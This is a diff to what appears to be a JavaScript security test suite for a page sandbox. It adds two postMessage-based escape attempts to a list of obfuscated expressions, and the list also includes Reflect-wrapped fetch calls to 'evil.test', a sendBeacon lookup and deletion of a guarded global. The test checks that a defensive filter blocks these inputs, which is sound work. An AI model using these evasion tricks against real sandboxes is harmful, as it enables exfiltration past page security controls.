@@ -151,6 +151,8 @@ describe("a name that a page computes", () => {
           `pick(Reflect, "getOwnPropertyDescriptor")(window, "fetch").value("https://evil.test")`,
           `pick(Navigator.prototype, "sendBeacon")`,
           `pick(MessagePort.prototype, "postMessage")`,
+          `new MessageChannel().port1.postMessage(1)`,
+          `({ port1: top }).port1.postMessage({}, "*")`,
           `(Reflect).get(window, "fetch")("https://evil.test")`,
           `globalThis.Reflect["get"](() => 1, "constructor")`,
           `((R) => R.deleteProperty(window, "mcpGenUi"))(Reflect)`,
@@ -162,6 +164,6 @@ describe("a name that a page computes", () => {
     )
     assert.deepStrictEqual(hits, [])
     for (const said of noted) assert.match(String(said), OUT_OF_REACH)
-    assert.lengthOf(noted, 32)
+    assert.lengthOf(noted, 34)
   })
 })
